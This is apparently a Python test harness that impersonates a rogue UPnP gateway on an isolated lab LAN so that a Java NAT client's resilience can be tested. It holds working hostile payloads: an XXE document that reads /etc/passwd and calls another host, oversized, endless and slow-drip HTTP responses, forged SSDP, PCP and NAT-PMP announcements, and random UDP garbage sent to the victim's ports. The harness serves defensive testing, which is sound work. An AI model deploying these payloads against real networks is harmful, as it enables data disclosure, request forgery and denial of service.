#!/usr/bin/env python3
"""A rogue device on the lab's LAN: everything a hostile or broken neighbour can throw at a NAT client.

Runs in the LAN namespace with an address of its own (added with `ip addr add`), never outside the lab:
  * answers every SSDP search, as fast as it can, with an IGD answer whose LOCATION cycles through an XXE
    description, a description on another host, a huge one, an endless one and a slow drip;
  * serves those descriptions over HTTP and records every request it gets;
  * sprays forged ssdp:alive/ssdp:byebye announcements with a new BOOTID each time, forged PCP and NAT-PMP
    "router restarted" announcements to 224.0.0.1:5350, and garbage to every UDP port a Java process on
    this host holds (its PCP, NAT-PMP and SSDP sockets).
Every request it receives is appended to --log as one line, so a test can tell what the app tried.
"""
import argparse
import os
import random
import socket
import struct
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SSDP_GROUP = "239.255.255.250"
ALL_HOSTS = "224.0.0.1"


def log(path, line):
    with open(path, "a") as f:
        f.write(line + "\n")


def descriptions(other_host):
    xxe = ("<?xml version=\"1.0\"?>\n"
           "<!DOCTYPE root [<!ENTITY file SYSTEM \"file:///etc/passwd\">"
           "<!ENTITY remote SYSTEM \"http://%s/xxe\">]>\n"
           "<root xmlns=\"urn:schemas-upnp-org:device-1-0\"><device>"
           "<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>"
           "<friendlyName>&file;&remote;</friendlyName><serviceList><service>"
           "<serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType>"
           "<controlURL>http://%s/ctl</controlURL></service></serviceList></device></root>") % (other_host, other_host)
    return {"/xxe.xml": xxe}


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        self.server.record("GET " + self.path + " from " + self.client_address[0])
        if self.path == "/huge.xml":
            # Says 50 MB and sends them as fast as it can.
            self.send_response(200)
            self.send_header("Content-Length", str(50 * 1024 * 1024))
            self.end_headers()
            chunk = b"<a>" * 10000
            try:
                for _ in range(2000):
                    self.wfile.write(chunk)
            except OSError:
                pass
            return
        if self.path == "/endless.xml":
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            try:
                while True:
                    data = b"<root>" * 1000
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
            except OSError:
                pass
            return
        if self.path == "/drip.xml":
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            try:
                for _ in range(600):
                    self.wfile.write(b"<")
                    self.wfile.flush()
                    time.sleep(0.5)
            except OSError:
                pass
            return
        body = self.server.pages.get(self.path)
        if body is None:
            self.send_error(404)
            return
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/xml")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):
        self.server.record("POST " + self.path + " from " + self.client_address[0])
        self.send_error(500)


def ssdp_responder(args, locations):
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("", 1900))
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                        struct.pack("4s4s", socket.inet_aton(SSDP_GROUP), socket.inet_aton(args.address)))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((args.address, 0))
    # One discovery sends several searches from one socket: each discovery (each source port) gets the next
    # poison, so that every one of them is tried in turn.
    chosen = {}
    while True:
        data, source = listener.recvfrom(4096)
        if not data.startswith(b"M-SEARCH"):
            continue
        if source not in chosen:
            chosen[source] = locations[len(chosen) % len(locations)]
        location = chosen[source]
        log(args.log, "SSDP search from %s:%d, answered with %s" % (source[0], source[1], location))
        answer = ("HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nEXT:\r\nLOCATION: %s\r\n"
                  "SERVER: rogue/1.0 UPnP/1.1\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
                  "USN: uuid:rogue::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n") % location
        for _ in range(3):
            sender.sendto(answer.encode(), source)


def java_udp_ports():
    try:
        out = subprocess.run(["ss", "-Hunap"], capture_output=True, text=True, timeout=5).stdout
    except (OSError, subprocess.SubprocessError):
        return []
    ports = set()
    for line in out.splitlines():
        if "java" in line:
            local = line.split()[3]
            ports.add(int(local.rsplit(":", 1)[1]))
    return sorted(ports)


def sprayer(args):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((args.address, 0))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(args.address))
    boot = 1
    while True:
        boot += 1
        for kind in ("ssdp:byebye", "ssdp:alive"):
            notify = ("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=60\r\n"
                      "LOCATION: http://%s/xxe.xml\r\nNT: upnp:rootdevice\r\nNTS: %s\r\nUSN: uuid:rogue::upnp:rootdevice\r\n"
                      "BOOTID.UPNP.ORG: %d\r\n\r\n") % (args.other_host, kind, boot)
            sender.sendto(notify.encode(), (SSDP_GROUP, 1900))
        # "I restarted": PCP ANNOUNCE response with epoch 0, NAT-PMP external address announcement with epoch 0.
        pcp = bytes([2, 0x80, 0, 0]) + struct.pack("!II", 0, 0) + bytes(12)
        pmp = bytes([0, 128, 0, 0]) + struct.pack("!I", 0) + socket.inet_aton("6.6.6.6")
        garbage = os.urandom(random.randint(0, 1200))
        for datagram in (pcp, pmp, garbage):
            sender.sendto(datagram, (ALL_HOSTS, 5350))
        for port in java_udp_ports():
            for datagram in (pcp, pmp, garbage, os.urandom(60)):
                sender.sendto(datagram, (args.victim, port))
        time.sleep(args.interval)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True, help="the rogue's own LAN address")
    parser.add_argument("--victim", required=True, help="the app's LAN address")
    parser.add_argument("--other-host", required=True, help="host:port of a host the app must never contact")
    parser.add_argument("--http-port", type=int, default=8000)
    parser.add_argument("--interval", type=float, default=0.2)
    parser.add_argument("--log", required=True)
    args = parser.parse_args()
    me = "%s:%d" % (args.address, args.http_port)
    locations = ["http://%s/xxe.xml" % me, "http://%s/xxe.xml" % args.other_host, "file:///etc/passwd",
                 "http://%s/huge.xml" % me, "http://%s/endless.xml" % me, "http://%s/drip.xml" % me]
    server = ThreadingHTTPServer((args.address, args.http_port), Handler)
    server.daemon_threads = True
    server.pages = descriptions(args.other_host)
    server.record = lambda line: log(args.log, "HTTP " + line)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    threading.Thread(target=ssdp_responder, args=(args, locations), daemon=True).start()
    threading.Thread(target=sprayer, args=(args,), daemon=True).start()
    log(args.log, "rogue up at %s" % args.address)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
